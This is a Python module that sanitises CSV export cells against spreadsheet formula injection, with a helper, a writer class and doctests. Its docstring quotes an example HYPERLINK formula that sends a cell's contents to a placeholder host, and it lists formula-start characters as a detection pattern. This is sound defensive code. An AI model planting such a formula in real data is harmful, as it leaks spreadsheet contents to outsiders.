"""CSV that a spreadsheet opens as data, never as formulas (OWASP, "CSV Injection").

Names, ids and free text in our exports come from whoever registered an organisation or an
attendee: ``=HYPERLINK("http://x/?"&A1,"Click")`` as an organisation's name would run in the
reader's spreadsheet. Every CSV export writes through :class:`SafeCsvWriter`, so every cell
passes :func:`safe_cell`.

>>> safe_cell('=HYPERLINK("http://x/?"&A1,"Click")')
'\\'=HYPERLINK("http://x/?"&A1,"Click")'
>>> safe_cell("-0.2500"), safe_cell(-0.25), safe_cell("Stuttgart Welding GmbH")
('-0.2500', -0.25, 'Stuttgart Welding GmbH')
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TextIO

#: What a spreadsheet reads as the start of a formula (or, tab and CR, of a cell it re-parses).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number, as our exports write scores (``-0.2500``): a number, not a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` as it may go into a CSV cell: text that starts like a formula gets a leading ``'``,
    which spreadsheets show as text (OWASP's advice). Only text is touched, and of text only what
    is not a plain number: a negative score, whether written as ``-0.25`` or as the string
    ``"-0.2500"``, stays a number the reader can sort and sum."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` (``\\n`` line ends) whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
